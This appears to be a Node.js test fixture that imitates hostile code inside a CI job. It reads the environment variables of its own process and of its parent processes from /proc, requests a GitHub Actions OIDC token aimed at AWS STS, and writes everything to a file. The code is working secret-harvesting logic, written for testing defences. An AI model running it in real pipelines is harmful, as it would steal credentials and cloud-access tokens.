// What hostile code does wherever it runs in a job: writes down its own variables and those of the processes above it, up
// to the step, and the token that names the job, if it can ask for one. Values too: the tests try them out.
const { readFileSync, writeFileSync } = require('node:fs');

function readAbove(pid) {
  try {
    const pairs = readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0').filter((pair) => pair.includes('='));
    const variables = Object.fromEntries(pairs.map((pair) => pair.split(/=(.*)/s).slice(0, 2)));
    const [, parent] = /^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8')) ?? [];
    return variables.RUNNER_TEMP === process.env.RUNNER_TEMP ? { ...readAbove(parent), ...variables } : {};
  } catch {
    return {}; // of another person, or of another system than Linux
  }
}

async function askToken({ ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: request }) {
  if (!url) return '';
  const answer = await fetch(`${url}&audience=sts.amazonaws.com`, { headers: { authorization: `bearer ${request}` } });
  return (await answer.json()).value;
}

async function main() {
  const [own, above] = [{ ...process.env }, readAbove(process.ppid)];
  writeFileSync(process.argv[2], JSON.stringify({ own, above, token: await askToken({ ...above, ...own }) }));
  process.stdout.write('{}\n'); // what a data source expects
}

main();
